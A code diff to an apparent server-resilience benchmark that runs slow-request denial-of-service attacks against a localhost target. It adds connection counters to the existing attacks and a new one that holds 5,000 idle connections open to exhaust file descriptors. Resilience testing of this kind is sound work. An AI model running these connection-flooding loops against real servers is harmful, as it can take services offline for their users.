@@ -3,9 +3,10 @@
 import itertools
 import socket
 import time
+from collections import deque
 from contextlib import suppress
 
-from bench.attacks import Target, side_by_side
+from bench.attacks import Target, done, side_by_side
 
 POST = b"POST /api/v1/tasks HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
 MIB = 1024 * 1024
@@ -20,6 +21,7 @@ def _send_for_ever(target: Target, head: bytes, chunk: bytes) -> None:
         connection.sendall(head)
         while True:
             connection.sendall(chunk)
+            done["chunks"] += 1
 
 
 def header_without_end(target: Target) -> None:
@@ -43,6 +45,7 @@ def half_sent_heads(target: Target) -> None:
         with suppress(OSError):
             held.append(_connect(target))
             held[-1].sendall(b"GET /healthz HTTP/1.1\r\nHost: loc")
+            done["held"] += 1
         if len(held) > 500:
             held.pop(0).close()
         if number > 500:
@@ -58,6 +61,18 @@ def unfinished_bodies(target: Target) -> None:
             connection.sendall(head)
             for _ in range(31):
                 connection.sendall(b" " * 500_000)
+            done["held"] += 1
             time.sleep(15)
 
     side_by_side(40, hold)
+
+
+def idle_connections(target: Target) -> None:
+    """5 000 connections that send nothing, opened again when they are closed: more than a process may have files."""
+    held: deque[socket.socket] = deque()
+    while True:
+        with suppress(OSError):
+            held.append(_connect(target))
+            done["held"] += 1
+        if len(held) > 5000:
+            held.popleft().close()
